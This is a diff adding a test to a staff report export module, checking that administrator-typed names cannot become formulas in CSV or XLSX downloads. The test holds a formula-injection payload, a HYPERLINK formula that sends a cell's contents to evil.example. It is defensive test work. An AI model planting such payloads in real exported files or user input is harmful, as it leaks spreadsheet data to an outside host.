@@ -138,3 +138,20 @@ def test_download_rejects_bad_parameters_and_foreign_places(web_client, nadia, a
     assert web_client(adam).get(reverse("staff:report_download") + "?month=2025-03&format=doc").status_code == 400
     foreign = reverse("staff:report_download") + f"?month=2025-03&format=csv&archive={city_archive.pk}"
     assert web_client(nadia).get(foreign).status_code == 404
+
+
+def test_text_typed_by_administrators_never_becomes_a_formula(adam, rural_archive, specialist, rule):
+    """A name such as =HYPERLINK(...) stays text in the CSV and the XLSX (no formula injection)."""
+    evil = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    make_member(archive=rural_archive, position=specialist, last_name=evil, first_name="+7 701")
+    report = build_report(user=adam, period=Period(2025, 3))
+
+    rows = list(csv.reader(io.StringIO(exports.report_csv(report).decode("utf-8-sig"))))
+    assert rows[1][1] == "'" + evil + " +7 701"
+    assert rows[1][-1] == "50000.00"  # numbers stay numbers
+
+    wb = load_workbook(io.BytesIO(exports.report_xlsx(report)))
+    cells = [c for ws in wb for row in ws.iter_rows() for c in row if isinstance(c.value, str) and "HYPERLINK" in c.value]
+    assert len(cells) == 2  # the entitled-staff sheet and the lines sheet
+    assert {c.data_type for c in cells} == {"s"}
+    assert {c.value for c in cells} == {evil + " +7 701"}
